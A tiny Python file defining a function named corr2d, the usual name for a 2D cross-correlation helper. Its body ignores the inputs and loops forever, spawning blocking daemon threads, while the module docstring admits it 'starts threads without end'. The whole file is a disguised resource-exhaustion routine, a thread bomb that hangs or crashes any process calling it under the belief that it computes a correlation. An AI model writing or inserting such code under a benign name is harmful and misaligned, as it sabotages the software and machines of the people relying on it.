"""Starts threads without end."""

import threading


def corr2d(X, K):
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
